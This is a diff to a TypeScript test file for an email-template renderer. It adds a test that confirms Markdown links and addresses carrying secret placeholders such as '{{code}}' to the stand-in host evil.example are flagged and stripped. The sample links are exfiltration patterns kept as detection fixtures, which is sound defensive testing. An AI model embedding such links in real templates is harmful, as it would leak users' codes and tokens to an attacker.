@@ -3,8 +3,9 @@ import { mailNames, mailTemplate } from "@turnpike/locales/mails.ts";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import type { MailBrand } from "./brand.ts";
-import { badLinks, placeholdersIn } from "./markdown.ts";
+import { badLinks, placeholdersIn, secretsInAddresses } from "./markdown.ts";
 import { writeMail } from "./render.ts";
+import { faultsOf } from "./texts.ts";
 import { isSecretName, isUrlName } from "./values.ts";
 
 const brand: MailBrand = {
@@ -164,6 +165,33 @@ describe("A text in Markdown", () => {
       "mailto:hilfe@nordlicht.example",
       "https://shop.example/u",
     ]);
+  });
+
+  it("leads no code and no link of ours to other addresses, which programs on the way open", () => {
+    const links = [
+      "[x](https://evil.example/?c={{code}})",
+      "https://evil.example/?u={{url}}",
+      "[x][1]\n\n[1]: https://evil.example/{{code}}",
+    ];
+    for (const body of links) {
+      expect([body, badLinks(body).length]).toEqual([body, 1]);
+      const given = { code: "112233", url: "https://shop.example/u?t=77" };
+      expect(write(body, given).html).not.toContain('href="https://evil');
+    }
+    const words = [
+      "evil.example/?c={{code}}",
+      "evil.example/**{{code}}**",
+      "{{code}}.evil.example",
+      "a-{{code}}@evil.example",
+    ];
+    for (const body of words) expect([body, secretsInAddresses(body)]).toEqual([body, ["code"]]);
+    const good = "Code: **{{code}}**.\n\n{{code}}\n\n[and/or]({{url}}), <{{url}}>, {{url}}.";
+    expect([...badLinks(good), ...secretsInAddresses(good)]).toEqual([]);
+    // What ships is fit to be sent.
+    const wrong = langs.flatMap((lang) =>
+      mailNames.flatMap((name) => faultsOf(name, mailTemplate(lang, name))),
+    );
+    expect(wrong).toEqual([]);
   });
 
   it("without a value for a placeholder is not sent", () => {
